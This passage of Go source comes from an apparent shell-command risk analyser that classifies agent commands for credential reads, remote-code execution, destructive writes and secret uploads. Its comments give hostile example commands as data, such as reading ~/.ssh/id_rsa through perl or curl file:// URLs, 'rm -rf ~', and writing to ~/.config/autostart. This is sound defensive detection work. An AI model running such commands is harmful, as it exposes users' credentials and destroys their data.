	if !ok {
		return
	}
	sub := subcommand("git", rest)
	if sub+1 >= len(args) {
		return
	}
	switch {
	case rest[sub] == "bisect" && rest[sub+1] == "run":
		ic.via = "git bisect run"
		w.run(args[sub+2:], nil, ic, d.clone(), false)
	case rest[sub] == "submodule":
		for i := sub + 1; i < len(args); i++ {
			if rest[i] == "foreach" {
				j := i + 1
				for j < len(args) && strings.HasPrefix(rest[j], "-") {
					j++
				}
				s, static := joinStatic(args[j:])
				w.script(s, static, c, d, "git submodule foreach", true)
				return
			}
		}
	}
}

// sources walks the script source and . read, when it is seen:
// runsSource.
func (w *walker) sources(idx int, name string, args []word, c scope, d *dirState) {
	if len(args) == 0 {
		return
	}
	if !args[0].static {
		// ". <(cmd)" runs what cmd prints.
		w.res.Commands[idx].Opaque = true
	}
	if text, ok := w.writtenScript(args[0]); ok && !w.script(text, true, c, d, name, false) {
		w.res.Commands[idx].Opaque = true
	}
	if isStdinPath(args[0].text) {
		w.stdinScript(idx, c, d, name, false)
	}
}

// stdinScript walks the script command idx reads from its standard input
// (a heredoc or here-string, known; a pipe's output, not known: the
// command is opaque).
func (w *walker) stdinScript(idx int, c scope, d *dirState, via string, child bool) {
	switch c.stdin.kind {
	case stdinText:
		if !w.script(c.stdin.script, c.stdin.static, c, d, via, child) {
			w.res.Commands[idx].Opaque = true
		}
	case stdinPipe:
		w.res.Commands[idx].Opaque = true
	}
}

// checkCodeFetch reports a remote download fed to an interpreter, by
// substitution or on standard input.
func (w *walker) checkCodeFetch(idx int, words []word, c scope, interp bool) {
	if !interp {
		return
	}
	text := w.res.Commands[idx].Text
	for _, wd := range words[1:] {
		if wd.fetch {
			w.critical(RiskRemoteFetchExec, "a remote download is run by "+cmdName(words[0])+" without review", text)
			return
		}
	}
	if c.stdin.fetch && readsCodeFromStdin(cmdName(words[0]), words[1:]) {
		w.critical(RiskRemoteFetchExec, "a remote download is piped into "+cmdName(words[0])+" and run without review", text)
	}
}

func joinWords(words []word) string {
	s := make([]string, len(words))
	for i, wd := range words {
		s[i] = wd.text
	}
	return strings.Join(s, " ")
}

// joinStatic joins words with spaces and reports whether all are static.
func joinStatic(words []word) (string, bool) {
	static := true
	for _, wd := range words {
		static = static && wd.static
	}
	return joinWords(words), static
}

// script parses and walks a nested script. It reports false when the
// script could not be seen (too deep or unparsable); the caller then makes
// its command opaque. A non-static script is still parsed in its source
// form, best effort.
func (w *walker) script(text string, static bool, c scope, d *dirState, via string, child bool) bool {
	if c.depth >= w.a.maxDepth {
		return false
	}
	sc, ok := w.nest(scope{src: text, via: via, depth: c.depth + 1, nest: c.nest})
	if !ok || !w.step(len(text)) {
		return false
	}
	f, err := parse(text)
	if err != nil {
		if static {
			w.unprefixable(RiskUnparsed, "the script "+via+" runs cannot be parsed ("+err.Error()+"); bash may read it otherwise", text)
		}
		return false
	}
	if child {
		d = d.clone()
	}
	scanAssigned(f, &w.assigned)
	w.nested = append(w.nested, f)
	w.stmts(f.Stmts, sc, d)
	return static
}

// chdir tracks the working directory through cd, pushd and popd. With
// mayFail the command may fail (or not run at all), so the directories
// the shell was in stay possible as alternatives.
func (w *walker) chdir(d *dirState, name string, args []word, mayFail bool) {
	// Joining copies the directories (twice, to clean them): a long run
	// of cd commands costs their lengths.
	n := len(d.dir)
	for _, a := range d.alts() {
		n += len(a)
	}
	w.step(2 * n)
	old, oldAlts := d.dir, d.alts()
	if name == "popd" {
		// popd fails only on an empty stack, which is not tracked.
		if n := len(d.stack); n > 0 {
			d.dir, d.stack = d.stack[n-1], d.stack[:n-1]
		} else {
			d.dir = "$OLDPWD"
		}
		lost := d.lost()
		d.alt = nil
		d.addAlts(oldAlts...)
		if lost {
			d.alt = &dirAlts{dirs: d.alts(), lost: true}
		}
		return
	}
	var dir word
	found := false
	for _, a := range args {
		if !found && (a.text == "--" || (strings.HasPrefix(a.text, "-") && a.text != "-")) {
			continue
		}
		if !found {
			dir, found = a, true
		}
	}
	if name == "pushd" {
		d.stack = append(d.stack[:len(d.stack):len(d.stack)], d.dir) // copy on write
	}
	p := dir.text
	if found && (dir.tilde || !dir.static) {
		if e, ok := expandHome(p, w.a.home); ok {
			p = e
		}
	}
	move := func(from string) string {
		switch {
		case !found && w.a.home != "":
			return w.a.home
		case !found:
			return "~"
		case dir.text == "-":
			return "$OLDPWD"
		case !dir.static || dir.glob:
			return p
		}
		return joinDir(from, p)
	}
	lost := d.lost()
	d.dir, d.alt = move(old), nil
	if lost {
		d.alt = &dirAlts{lost: true}
	}
	for _, a := range oldAlts {
		d.addAlts(move(a))
	}
	if mayFail {
		d.addAlts(old)
		d.addAlts(oldAlts...)
	}
}

// joinDir resolves p against dir ("" = the call's own directory).
func joinDir(dir, p string) string {
	if dir == "" || path.IsAbs(p) || strings.HasPrefix(p, "~") || strings.HasPrefix(p, "$") {
		return p
	}
	return path.Join(dir, p)
}

// gitWithoutGlobals returns "git SUB ARGS…" for a git command whose
// subcommand follows global options (-C DIR, --git-dir=…, --no-pager,
// -P), so deny and ask rules written for "git push *" still match it.
func gitWithoutGlobals(args []string) (string, bool) {
	sub := subcommand("git", args)
	if sub == 0 || sub >= len(args) {
		return "", false
	}
	return "git " + strings.Join(args[sub:], " "), true
}

// fileEffects marks the files a command deletes or changes recursively
// (rm -r, shred, truncate, dd of=, chmod -R), which the policy classes as
// destructive outside the workspace, by its entry s; from is where its
// files begin. find -delete is find's fileCode's (findDeletes).
func (w *walker) fileEffects(s *cmdSpec, norm []string, from int) {
	if s == nil {
		return
	}
	deletes, recursive := s.deletes, s.treeDeletes
	if s.rare != nil && len(s.rare.recursive) > 0 {
		recursive = s.hasAny(norm, s.rare.recursive...)
	}
	if !deletes && !recursive {
		return
	}
	for i := from; i < len(w.res.Files); i++ {
		if f := &w.res.Files[i]; f.Write {
			f.Delete = f.Delete || deletes
			f.Recursive = f.Recursive || recursive
		}
	}
}

// known reports whether a command is in one of the tables, so its
// arguments are understood; other commands' arguments are probed. s is
// its entry of the command table (commandSpec).
func (w *walker) known(name string, s *cmdSpec) bool {
	if s != nil && !s.probe {
		return true
	}
	if _, ok := w.a.extra[name]; ok {
		return true
	}
	r := rolesOf(name)
	return r&(rolePlainCommand|roleFetcher) != 0 || runsCode(name, r)
}

// scriptRunner reports whether a command is an interpreter that is not a
// shell (python, julia, …): what its script does is unknown, so its
// arguments are probed as an unknown command's are: a secret among them
// is a read ("python3 ~/.aws/credentials" prints the file's first line in
// its error), a shell command among them raises its risk. r is name's
// roles (rolesOf).
func scriptRunner(name string, r role) bool {
	return r&(roleShell|roleSource) == 0 && runsCode(name, r)
}

// runsAppScript returns the management script an interpreter runs and
// its arguments: Django's manage.py, Laravel's artisan, Rails' bin/rails,
// whose commands (flush, db:wipe, db:reset) act on the app's database.
// r is name's roles (rolesOf).
func runsAppScript(name string, r role, args []string) (string, []string, bool) {
	if r&roleShell != 0 || !runsCode(name, r) {
		return "", nil, false
	}
	for i, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		switch path.Base(a) {
		case "manage.py", "artisan", "rails", "rake", "console":
			return a, args[i+1:], true
		}
		return "", nil, false
	}
	return "", nil, false
}

// runsJar returns the jar "java -jar JAR ARGS…" runs and its arguments.
func runsJar(name string, args []string) (string, []string, bool) {
	if name != "java" {
		return "", nil, false
	}
	for i, a := range args {
		if a == "-jar" || a == "--jar" {
			if i+1 < len(args) {
				return args[i+1], args[i+2:], true
			}
			return "", nil, false
		}
	}
	return "", nil, false
}

// probe looks at the arguments of a command the tables do not know: one
// that parses as a shell command with a critical risk or a risk class
// ("mytool 'rm -rf ~'") raises that risk on the command. The probed
// commands are not subjects: they may never run.
func (w *walker) probe(idx int, args []word, c scope, d *dirState) {
	for _, a := range args {
		// "gitleaks detect --source ~ -v", "trufflehog filesystem ~": a
		// tool the tables do not know given the whole home directory
		// may read every file in it, credentials included; "cd ~ &&
		// trufflehog filesystem ." gives it too.
		v := a.text
		if strings.HasPrefix(v, "-") {
			_, v, _ = strings.Cut(v, "=")
		}
		whole := wholeTree(v)
		if !whole && a.static && (v == "." || v == ".." || strings.HasPrefix(v, "./") || strings.HasPrefix(v, "../")) {
			d.each(func(dir string) { whole = whole || dir != "" && homeRoot(joinDir(dir, v)) })
		}
		if whole && strings.Trim(v, "/*") != "" { // a lone "/" is as often a pattern's delimiter
			addClass(&w.res.Commands[idx], ClassRisk{Class: ClassCredential, Reason: "its argument " + a.text + " names a whole home directory, which it may read, credentials included", Token: a.text})
			break
		}
	}
	if c.depth >= w.a.maxDepth {
		return
	}
	for _, a := range args {
		if !strings.ContainsAny(a.text, " \t;|&") {
			continue
		}
		pc, ok := w.nest(scope{src: a.text, via: c.via, depth: c.depth + 1, nest: c.nest})
		if !ok || !w.step(len(a.text)) {
			return
		}
		f, err := parse(a.text)
		if err != nil {
			continue
		}
		// The probe spends the call's budget: its walker takes what is
		// left and gives back what it did not use.
		sub := walker{a: w.a, res: &Analysis{}, left: w.left}
		sub.stmts(f.Stmts, pc, &dirState{})
		w.left = sub.left
		if sub.over() {
			w.stop(sub.exceeded)
		}
		for _, r := range sub.res.Risks {
			if r.Severity == toolgate.SeverityCritical {
				w.addRisk(r)
			}
		}
		for _, sc := range sub.res.Commands {
			for _, cr := range sc.Classes {
				addClass(&w.res.Commands[idx], ClassRisk{Class: cr.Class, Reason: "its argument " + strings.TrimSpace(truncate(a.text)) + " would be a command that " + cr.Reason, Token: a.text})
			}
		}
	}
}

// secretOperands reports, as read files, the operands that name a secret
// (internal/sensitive) when the command is one the reader table does not
// describe or an interpreter (perl and ruby are described for -i, yet
// "perl ~/.ssh/id_rsa" still prints the key in its error), and file:// URLs given to any command ("curl
// file:///home/u/.ssh/id_rsa").
//
// understood is whether the command's operands are understood: the
// reader table describes it or it is known.
//
// The keys a login client signs with (keys: ssh -i KEY) are no such read.
func (w *walker) secretOperands(name string, r role, understood bool, keys uint64, args []word, owner string, d *dirState) {
	probe := r&roleOpener != 0 || scriptRunner(name, r) || r&rolePassesArgs != 0 || !understood
	if probe || r&roleOutputOptions != 0 {
		w.passedOutputs(args, owner, d)
	}
	for i, a := range args {
		if i < 63 && keys&(1<<i) != 0 {
			continue
		}
		p := a.text
		if rest, ok := strings.CutPrefix(p, "file://"); ok {
			if i := strings.IndexAny(rest, "?#"); i >= 0 {
				rest = rest[:i]
			}
			if strings.HasPrefix(rest, "localhost/") {
				rest = rest[len("localhost"):]
			}
			w.file(word{text: rest, static: a.static}, false, owner, d)
			continue
		}
		if !probe {
			continue
		}
		if strings.HasPrefix(p, "-") && !strings.Contains(p, "=") {
			if len(p) < 3 || p[1] == '-' {
				continue
			}
			p = p[2:] // a value glued to a short option: -o/home/u/.netrc
		}
		if k, v, ok := strings.Cut(p, "="); ok && (strings.HasPrefix(p, "-") || !strings.Contains(k, "/")) {
			p = v // --file=~/.netrc, make KEY=~/.ssh/id_rsa
		}
		p = strings.TrimPrefix(p, "@") // a response file: gcc @FILE, --extra-opts=@FILE
		if i := strings.IndexByte(p, '['); !w.secretOperand(a, p, owner, d) && i > 0 && strings.HasSuffix(p, "]") {
			// A task's arguments: rake "import[FILE,x]".
			for _, t := range strings.Split(p[i+1:len(p)-1], ",") {
				w.secretOperand(word{text: t, static: a.static}, t, owner, d)
			}
		}
	}
}

// keyWords returns, as a set of bits by index (Command.Keys), the
// words of args that hold a key the command logs in or signs with: the
// values of its fileKey options (ssh -i KEY, -o IdentityFile=KEY) and its
// fileKey operands (ssh-add KEY).
func keyWords(s *cmdSpec, args []word) uint64 {
	if s == nil || !s.fileOpts || len(args) == 0 {
		return 0
	}
	var keyOpts, keyOperands bool
	for k := range s.opts {
		if s.opts[k].file == fileKey {
			keyOpts = keyOpts || !s.opts[k].operand
			keyOperands = keyOperands || s.opts[k].operand
		}
	}
	if !keyOpts && !keyOperands {
		return 0
	}
	var textBuf [8]string
	texts := appendTexts(textBuf[:0], args)
	var optBuf [8]optArg
	var opBuf [8]int
	opts, ops := s.scanInto(texts, args, false, optBuf[:0], opBuf[:0])
	var set uint64
	mark := func(i int) {
		if i >= 0 && i < 63 {
			set |= 1 << i
		}
	}
	for _, o := range opts {
		for k := range s.opts {
			e := &s.opts[k]
			if e.file == fileKey && !e.operand && o.valAt >= 0 && contains(e.names, o.name) && (len(e.values) == 0 || prefixFold(o.val, e.values)) {
				mark(o.valAt)
			}
		}
	}
	if keyOperands {
		for _, i := range ops {
			mark(i)
		}
	}
	return set
}

// secretOperand records p, an argument a gives, as a read when it names a
// secret, and reports whether it does.
func (w *walker) secretOperand(a word, p, owner string, d *dirState) bool {
	if a.tilde || strings.HasPrefix(p, "$") {
		if e, ok := expandHome(p, w.a.home); ok {
			p = e
		}
	}
	if e, ok := sensitive.Lookup(p, w.a.home); ok && e.Kind == sensitive.Credential {
		wd := a
		wd.text = p
		w.file(wd, false, owner, d)
		return true
	}
	return false
}

// passedOutputs records as written the value of each option whose name
// says it is where output goes, given to a build tool or task runner that
// hands it on (rolePassesArgs), a script runner, a tool the tables do not
// describe, or a plain command whose output options are where it writes
// (roleOutputOptions): "npm run build -- --outDir ~/.config/autostart"
// writes there as "tsc --outDir DIR" and "esbuild --outfile=FILE" do.
func (w *walker) passedOutputs(args []word, owner string, d *dirState) {
	for i, a := range args {
		opt, v, ok := strings.Cut(a.text, "=")
		if !outputOption(opt) {
			continue
		}
		wd := a
		if ok {
			wd.text, wd.tilde = v, strings.HasPrefix(v, "~")
		} else if i+1 < len(args) && !strings.HasPrefix(args[i+1].text, "-") {
			wd = args[i+1]
		} else {
			continue
		}
		if wd.text != "" {
			w.file(wd, true, owner, d)
		}
	}
}

// outputOption reports whether a long option's name says its value is
// where a build writes (--outDir, --out-dir, --outfile, --output-path,
// --dist-dir, --dest). --out and --output are left out: as often a
// format ("--output json") or a file of the program's own.
func outputOption(o string) bool {
	if !strings.HasPrefix(o, "--") {
		return false
	}
	switch strings.ReplaceAll(strings.ToLower(o[2:]), "-", "") {
	case "outdir", "outfile", "outputdir", "outputpath", "outputfile", "distdir", "dest", "destination", "destdir", "builddir", "sitedir",
		"artifactdir", "targetdir", "declarationdir":
		return true
	}
	return false
}

// runtimeWords marks the "{}" placeholders of find -exec and fd -x as not
// static: the file names they stand for exist only at run time, so no
// allow rule can vouch for them.
func runtimeWords(words []word) []word {
	var out []word
	for i, wd := range words {
		if strings.Contains(wd.text, "{}") || wd.text == "{/}" || wd.text == "{.}" || wd.text == "{//}" || wd.text == "{/.}" {
			if out == nil {
				out = append([]word(nil), words...)
			}
			out[i].static = false
		}
	}
	if out == nil {
		return words
	}
	return out
}

// runtimeFiles records the file a reader or writer receives only at run
// time (xargs, parallel, fd -x append names from their input): a file
// subject no allow rule can vouch for, so it never reaches a protected
// file unseen. When the pipe is known to carry the names of files under
// a directory (names: "find src -name '*.go' | xargs grep x") and the
// command reads them, the subject is that pattern, src/**/*.go, judged
// as a glob would be. inner is the command given them, from the index
// of its first command in the analysis: a command its options make
// rewrite its operands (sed -i) writes them, and once they are recorded
// that option needs no rule naming it (writeForms).
func (w *walker) runtimeFiles(inner []word, from int, owner, names string, d *dirState) {
	name := cmdName(inner[0])
	if !describes(name) {
		return
	}
	s := commandSpec(name)
	kind := s.files
	rewrite := rewrites(s, inner[1:])
	write := kind == writeAll || kind == modeKind || kind == moveKind || rewrite
	fstart := len(w.res.Files)
	if !write && w.readsEvery(names, inner, d) {
		dir := strings.TrimSuffix(names, "/**")
		// Every file below dir, only read ("find . -type f -exec grep
		// -l x {} +", "find src | xargs wc -l"): judged as a recursive
		// reader's directory is ("grep -rl x src").
		w.fileAs(word{text: dir, static: true, tilde: strings.HasPrefix(dir, "~")}, File{}, owner, d)
		return
	}
	if names != "" && (!write || namePicked(names)) {
		// The files a name test picks (find . -name '*.tmp' -exec rm
		// {} ;): the pattern says which. A write to every file below a
		// directory (xargs rm) stays unknown: it would take .git and
		// every start-up file below it along. A command that changes
		// its operands in place (rm, sed -i, chmod) changes files so
		// named; one that moves or copies into them (mv) may write
		// other names inside a picked directory.
		w.pickedFiles(names, File{Write: write, Delete: write && s.deletes, Picked: write && kind != moveKind}, owner, d)
	} else {
		w.addFile(File{Path: "{file names read by " + owner + " at run time}", Write: write, Static: false, Command: owner})
	}
	if rewrite && from < len(w.res.Commands) && w.res.Commands[from].Name == name {
		w.writeForms(from, s, normaliseArgs(name, w.res.Commands[from].Args), fstart)
	}
}

// rewrites reports whether a command's options make it rewrite its
// operands in place (the "rewrite" mode: sed -i, perl -i).
func rewrites(s *cmdSpec, args []word) bool {
	if s == nil || len(args) == 0 {
		return false
	}
	opts, _ := s.scanWords(wordTexts(args), args, s.files == bySub)
	for _, o := range opts {
		for k := range s.opts {
			if e := &s.opts[k]; e.mode == "rewrite" && contains(e.names, o.name) {
				return true
			}
		}
	}
	return false
}

// pickedFiles records the files a find expression picks, names (findNames:
// DIR/** or DIR/**/NAME), as a glob subject with the effect as has: the one
// reading of find -exec, find -delete and "find … | xargs".
func (w *walker) pickedFiles(names string, as File, owner string, d *dirState) {
	as.Picked = as.Picked && namePicked(names)
	w.fileAs(word{text: names, static: true, glob: true, tilde: strings.HasPrefix(names, "~"), names: true}, as, owner, d)
}

// KnowsOperands reports whether the analysis knows what a command's
// operands are: the readers and writers, whose files it reports, and the
// commands whose operands are never files' contents (echo, ls). Other
// commands' operands may be files the policy checks against its rules.
func KnowsOperands(name string) bool {
	// A wrapper's and xargs's operands are the command line they run,
	// analysed as a command of its own ("sudo grep -l secret /var/log":
	// secret is grep's pattern, not a file).
	return describes(name) || hasRole(name, rolePlainCommand) || wrapperFor(name) != nil || name == "xargs" || name == "parallel"
}

// SendsOperands reports whether a command is the client of a service its
// operands may be sent to (gh gist create FILE, aws s3 cp FILE URL, gh
// api -F x=@FILE): whatever role its table entry gives an operand, a
// file the rules protect may leave with it.
func SendsOperands(name string, effects Effect) bool {
	if effects&EffectNetwork != 0 {
		return true
	}
	return hasRole(name, roleServiceClient)
}

// gitPathspecs reports the pathspecs after "--" of git commands that
// print file contents (git log -p -- .env, git grep KEY -- .env) and the
// file of git blame as read files.
func (w *walker) gitPathspecs(norm []string, args []word, owner string, d *dirState) {
	sub := subcommand("git", norm)
	if sub >= len(norm) || !hasRole(norm[sub], roleGitPrinter) {
		return
	}
	for i := sub + 1; i < len(norm); i++ {
		if norm[i] != "--" {
			continue
		}
		for _, a := range args[i+1:] {
			if !strings.HasPrefix(a.text, ":") { // pathspec magic is left alone
				w.file(a, false, owner, d)
			}
		}
		return
	}
	if (norm[sub] == "blame" || norm[sub] == "annotate") && len(norm) > sub+1 {
		if last := args[len(args)-1]; !strings.HasPrefix(last.text, "-") {
			w.file(last, false, owner, d)
		}
	}
}

// sqlInline reports whether a database shell's arguments give its SQL or
// ask for no SQL at all (-c, -e, -l), so its standard input is unused.
func sqlInline(args []string) bool {
	for _, a := range args {
		for _, p := range [...]string{"-c", "-e", "-l", "--command", "--execute", "--list", "--eval"} {
			if strings.HasPrefix(a, p) {
				return true
			}
		}
	}
	return false
}

// batchFile reports sftp -b FILE and smbclient -c CMDS with a shell
// escape (lftp's -c and -f are in the command table).
func batchFile(args []string) bool {
	for i, a := range args {
		if i+1 < len(args) && (a == "-b" && args[i+1] != "-" || a == "-c" && transferShell(args[i+1])) {
			return true
		}
	}
	return false
}

// transferShell reports a transfer client's script that runs a shell
// command: a line (or, for smbclient, a command after ";") starting
// with "!", or a local file name starting with
// "|", which BSD ftp opens as a pipe through the shell.
// edShell reports whether an ed or ex script runs a shell command: a
// line that is "!cmd", or an r, w or e command (after its address) whose
// file is "!cmd".
func edShell(script string) bool {
	for line := range strings.FieldsFuncSeq(script, func(r rune) bool { return r == '\n' || r == '|' }) {
		l := strings.TrimLeft(strings.TrimSpace(line), "0123456789,.$;+-'/ \t")
		if strings.HasPrefix(l, "!") {
			return true
		}
		if len(l) > 0 && strings.ContainsRune("rwWeEr", rune(l[0])) && strings.HasPrefix(strings.TrimSpace(strings.TrimLeft(l[1:], "q")), "!") {
			return true
		}
	}
	return false
}

// installedBin reports a JavaScript runtime started on an installed
// package's program (node node_modules/PKG/bin/x.js, bun
// ./node_modules/.bin/NAME, deno run …/node_modules/…): the index of that
// script among args and the program's name (the .bin entry's, or the
// package's).
func installedBin(name string, args []word) (int, string, bool) {
	switch name {
	case "node", "nodejs", "bun", "deno", "tsx", "ts-node":
	default:
		return 0, "", false
	}
	for i, a := range args {
		t := a.text
		if (name == "bun" || name == "deno") && t == "run" {
			continue
		}
		if strings.HasPrefix(t, "-") {
			continue
		}
		if !a.static {
			return 0, "", false
		}
		j := strings.LastIndex(t, "node_modules/")
		if j < 0 {
			return 0, "", false
		}
		rest := t[j+len("node_modules/"):]
		if bin, ok := strings.CutPrefix(rest, ".bin/"); ok && bin != "" && !strings.Contains(bin, "/") {
			return i, bin, true
		}
		pkg, _, _ := strings.Cut(rest, "/")
		if strings.HasPrefix(pkg, "@") {
			if scope, after, ok := strings.Cut(rest, "/"); ok {
				p, _, _ := strings.Cut(after, "/")
				pkg = scope + "/" + p
			}
		}
		if pkg == "" {
			return 0, "", false
		}
		return i, pkg, true
	}
	return 0, "", false
}

// scriptSendsSecretFile returns a file a transfer client's script sends (put,
// mput, send, append, reput) whose name says a project keeps secrets in
// it (sensitive.SecretName: .env, secrets.yml).
func scriptSendsSecretFile(script string) (string, bool) {
	for line := range strings.FieldsFuncSeq(script, func(r rune) bool { return r == '\n' || r == ';' }) {
		f := strings.Fields(line)
		if len(f) < 2 {
			continue
		}
		switch strings.ToLower(f[0]) {
		case "put", "mput", "send", "append", "reput", "sput":
			for _, a := range f[1:] {
				a = strings.Trim(a, "'\"")
				if !strings.HasPrefix(a, "-") && sensitive.SecretName(a) {
					return a, true
				}
			}
		}
	}
	return "", false
}

func transferShell(script string) bool {
	for line := range strings.FieldsFuncSeq(script, func(r rune) bool { return r == '\n' || r == ';' }) {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "!") {
			return true
		}
		for _, f := range strings.Fields(line) {
			if strings.HasPrefix(strings.TrimLeft(f, "'\""), "|") {
				return true
			}
		}
	}
	return false
}

// otherProgram reports a table command's name used by another program,
// told apart by its arguments (rareSpec.otherProgram).
func otherProgram(s *cmdSpec, args []string) bool {
	return s != nil && s.rare != nil && s.rare.otherProgram != nil && s.rare.otherProgram(args)
}

// splitOther reports split's arguments that are no coreutils split's:
// it takes at most FILE and PREFIX, so "split splits delete my-flag" is
// Split's service CLI.
func splitOther(args []string) bool {
	ops := 0
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "--":
			ops += len(args) - i - 1
			i = len(args)
		case len(a) == 2 && a[0] == '-' && strings.IndexByte("abClnt", a[1]) >= 0:
			i++ // the option's value
		case strings.HasPrefix(a, "-") && a != "-":
		default:
			ops++
		}
	}
	return ops > 2
}

// dnsDeletes reports an nsupdate script that deletes records: "delete
// NAME…", "update delete NAME…" (and their "del" spellings).
func dnsDeletes(script string) bool {
	for line := range strings.Lines(script) {
		f := strings.Fields(strings.ToLower(line))
		if len(f) > 1 && f[0] == "update" {
			f = f[1:]
		}
		if len(f) > 0 && (f[0] == "delete" || f[0] == "del") {
			return true
		}
	}
	return false
}

// nsupdateFile reports nsupdate given its update file as an operand
// (options -k, -y, -p, -t, -u, -r take a value).
func nsupdateFile(args []string) bool {
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case len(a) == 2 && a[0] == '-' && strings.IndexByte("kyptur", a[1]) >= 0:
			i++
		case strings.HasPrefix(a, "-"):
		default:
			return true
		}
	}
	return false
}
